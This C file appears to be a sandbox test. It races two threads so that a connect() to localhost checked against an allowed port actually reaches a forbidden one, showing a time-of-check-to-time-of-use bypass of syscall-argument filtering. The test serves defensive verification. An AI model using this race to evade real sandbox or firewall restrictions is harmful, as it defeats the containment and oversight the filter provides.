// Two threads: one connects to the allowed port, the other exchanges the address in memory meanwhile.
// Whoever checks the address before the kernel reads it loses.
#include "proof.h"
#include <arpa/inet.h>
#include <poll.h>
#include <pthread.h>

static volatile struct sockaddr_in to;
static volatile uint16_t allowed, forbidden;
static volatile int done;

static void *swap(void *nothing) {
    while (!done) {
        to.sin_port = forbidden;
        to.sin_port = allowed;
    }
    return nothing;
}

int main(void) {
    bounded();
    const char *port = strrchr(env("SERVICE"), ':');
    allowed = htons(port ? atoi(port + 1) : 0);
    forbidden = htons(env_number("TCP4"));
    to.sin_family = AF_INET;
    to.sin_port = allowed;
    to.sin_addr.s_addr = htonl(0x7f000001);
    pthread_t thread;
    pthread_create(&thread, NULL, swap, NULL);
    for (int attempt = 0; attempt < 3000; attempt++) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(fd, (void *)&to, sizeof to) < 0 && errno == EINPROGRESS) {
            struct pollfd wait = {.fd = fd, .events = POLLOUT};
            poll(&wait, 1, 20);
        }
        close(fd);
    }
    done = 1;
    return 0;
}
